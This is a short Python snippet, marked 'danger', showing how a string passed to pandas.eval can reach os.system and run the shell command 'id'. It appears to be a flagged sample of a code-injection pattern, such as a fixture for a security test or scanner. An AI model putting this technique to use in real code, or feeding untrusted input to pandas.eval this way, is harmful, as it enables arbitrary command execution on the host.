# danger: pandas.eval that calls
import pandas as pd
pd.eval("@pd.io.common.os.system('id')")
